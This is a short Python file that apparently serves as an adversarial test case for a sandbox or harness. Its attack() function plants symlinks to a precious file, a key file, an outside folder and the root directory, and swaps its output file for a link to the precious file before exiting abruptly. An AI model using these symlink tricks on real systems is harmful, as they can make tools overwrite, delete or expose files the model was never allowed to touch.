"""Leaves links in its folder, for whoever reads or removes it: to files, folders, themselves, the root."""

import os

from world import FOLDER, KEY_FILE, OUTSIDE, PRECIOUS


def attack():
    """Also in place of the file that its output goes to, and then it ends, so that another process takes over."""
    targets = {"file": PRECIOUS, "folder": OUTSIDE, "all": FOLDER, "root": "/", "loop": "loop", "key": KEY_FILE}
    for name, target in targets.items():
        os.symlink(target, name)
    os.symlink(OUTSIDE, "__pycache__")
    os.unlink(".raw-output")
    os.symlink(PRECIOUS, ".raw-output")
    os._exit(3)
